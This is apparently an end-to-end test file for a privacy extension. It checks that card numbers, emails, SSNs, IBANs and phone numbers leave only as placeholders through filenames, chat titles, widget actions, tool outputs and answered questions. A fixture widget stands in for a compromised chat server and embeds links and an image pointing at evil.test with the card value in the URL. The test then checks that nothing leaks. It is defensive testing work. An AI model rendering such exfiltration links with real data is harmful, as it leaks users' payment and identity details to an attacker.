// Every way on which something leaves beside the message itself: names of files, a title, a widget's click, a tool's output, an answered question. None carries a value.
import type { LoggedRequest } from '../../backend/types';
import type { PanelPage } from '../panel-page';
import { askBackground } from '../ask-background';
import { expectNothingLeft, planted } from '../personal-values';
import type { Session } from '../session';
import { filesAre, give } from './attachments';
import type { Story } from './story';

const chatkitPath = '/chatkit';

function backends(origin: string) {
  return {
    version: 1,
    backends: [
      { id: 'server', label: 'Server', kind: 'chatkit', url: origin, class: 'cloud' },
      {
        id: 'papers',
        label: 'Papers',
        kind: 'openai-responses',
        url: `${origin}/v1`,
        class: 'cloud',
      },
    ],
    models: [
      { id: 'server', label: 'Server', route: ['server'] },
      { id: 'papers', label: 'Papers', route: ['papers'] },
    ],
  };
}

let made = 0;
function item(fields: object): { events: object[] } {
  made += 1;
  const created_at = new Date().toISOString();
  const base = { id: `way_${made}`, thread_id: '{thread}', created_at };
  return { events: [{ type: 'thread.item.done', item: { ...base, ...fields } }] };
}

/** What a page could have talked a server into drawing: the value in a link, an image, a payload, a form. */
const drawn = item({
  type: 'widget',
  widget: {
    type: 'Card',
    children: [
      { type: 'Markdown', value: 'Pay by [card](https://evil.test/?c=[CARD_1]) now' },
      { type: 'Image', src: 'https://evil.test/[CARD_1].png', alt: 'A lamp' },
      {
        type: 'Button',
        label: 'Pay now',
        onClickAction: { type: 'pay', payload: { to: '[CARD_1]', note: 'for [EMAIL_1]' } },
      },
    ],
  },
});

const bodyOf = ({ body }: LoggedRequest) => JSON.stringify(body);
const typeOf = ({ body }: LoggedRequest) =>
  typeof body === 'object' && body !== null && 'type' in body ? String(body.type) : '';

/** The one request of this type, with a placeholder where a value stood. */
async function received(
  { control }: Session,
  type: string,
  ...expected: string[]
): Promise<LoggedRequest> {
  const request = await control.waitForRequest((one) => typeOf(one) === type);
  for (const part of expected)
    if (!bodyOf(request).includes(part))
      throw new Error(`${type} has no ${part}: ${bodyOf(request).slice(0, 1000)}`);
  return request;
}

async function names(session: Session, panel: PanelPage): Promise<void> {
  await panel.chooseModel('Papers');
  await give(panel, {
    door: 'paste',
    name: `to ${planted.EMAIL} ${planted.SSN} of May.pdf`,
    type: 'application/pdf',
    data: btoa('%PDF-1.4'),
  });
  await filesAre(panel, 'the file', ({ composer }) => composer.length === 1);
  await panel.ask('What does it say?');
  await panel.settledAnswer();
  const request = await session.control.waitForRequest(({ path }) => path === '/v1/responses');
  const sent = bodyOf(request);
  if (!sent.includes('to [EMAIL_1] [SSN_1] of May.pdf'))
    throw new Error(`The file is called ${sent.slice(0, 2000)}`);
}

async function answers(session: Session, panel: PanelPage): Promise<void> {
  const { control } = session;
  await panel.newChat();
  await panel.chooseModel('Server');
  await control.script(chatkitPath, drawn, { tokens: ['Paid.'] });
  await panel.ask(`Who pays? My card is ${planted.CARD}, write to ${planted.EMAIL}.`);
  await panel.driver.click('button', 'Pay now');
  await panel.settlesAs('Paid.');
  // What the server wrote goes back as it wrote it.
  await received(session, 'threads.custom_action', '[CARD_1]', '[EMAIL_1]');
  const shown = await panel.driver.evaluate(() => {
    const root = document.querySelector('openai-chatkit')?.shadowRoot;
    const links = [...(root?.querySelectorAll('[data-item-type="widget"] a') ?? [])];
    const images = [...(root?.querySelectorAll('[data-item-type="widget"] img') ?? [])];
    return [...links, ...images].map((one) => one.outerHTML).join('\n');
  }, null);
  for (const value of [planted.CARD, encodeURIComponent(planted.CARD)])
    if (shown.includes(value)) throw new Error(`The widget was given the value: ${shown}`);

  const question = { type: 'freeform', id: 'number', question: 'Which number?' };
  await control.script(
    chatkitPath,
    item({ type: 'structured_input', status: 'pending', inputs: [question] }),
    { tokens: ['Noted.'] },
  );
  await panel.ask('Ask me.');
  await panel.driver.fill('textbox', 'Which number?', `It is ${planted.SSN}`);
  await panel.driver.click('button', 'Answer');
  await panel.settlesAs('Noted.');
  await received(session, 'threads.add_structured_input', '[SSN_1]');

  await control.script(
    chatkitPath,
    item({
      type: 'client_tool_call',
      status: 'pending',
      call_id: 'way',
      name: 'page.get_text',
      arguments: {},
    }),
    { tokens: ['Read.'] },
  );
  await panel.ask('Read it.');
  await panel.driver.click('button', 'Allow');
  await panel.settlesAs('Read.');
  await received(session, 'threads.add_client_tool_output', '[IBAN_1]');
}

/** The log tells of what was no message too, and holds no text. */
async function log(panel: PanelPage): Promise<void> {
  const { body } = await askBackground(panel.driver)('beside.receipts.export', {});
  const written = JSON.stringify(body);
  if (!written.includes('"purpose":"rename"')) throw new Error(`No rename in ${written}`);
  for (const value of Object.values(planted))
    if (written.includes(value)) throw new Error(`A receipt holds ${value}`);
}

async function run(session: Session): Promise<void> {
  const { tab, panel } = await session.openPanel();
  await tab.evaluate((iban) => {
    const line = document.createElement('p');
    line.textContent = `Paid to ${iban} last year.`;
    document.querySelector('article, main, body')?.prepend(line);
  }, planted.IBAN);
  await names(session, panel);
  await answers(session, panel);
  await panel.renameThread(
    `Who pays? My card is ${planted.CARD}, write to…`,
    `Call ${planted.PHONE}`,
  );
  await received(session, 'threads.update', '[PHONE_1]');
  await log(panel);
  expectNothingLeft(await session.control.requests());
}

export const oneWayOut: Story = {
  name: 'a file’s name, a title, a widget’s click, a tool’s output and an answered question take no value along',
  setup: { team: backends },
  run,
};
